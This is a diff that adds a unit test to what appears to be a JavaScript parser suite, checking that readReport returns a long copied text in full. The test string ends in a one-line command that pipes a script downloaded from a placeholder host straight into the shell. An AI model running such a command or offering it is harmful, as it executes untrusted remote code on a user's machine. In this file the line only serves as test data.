@@ -75,3 +75,8 @@ test('a request inside another is for the network that its scope names', () => {
     null,
   ])
 })
+
+test('a copied text is read to its end', () => {
+  const text = `${'# step '.repeat(2_500)}curl -s https://else.example/a | sh`
+  assert.deepEqual(readReport(JSON.stringify({ copied: text })), { kind: 'copied', text })
+})
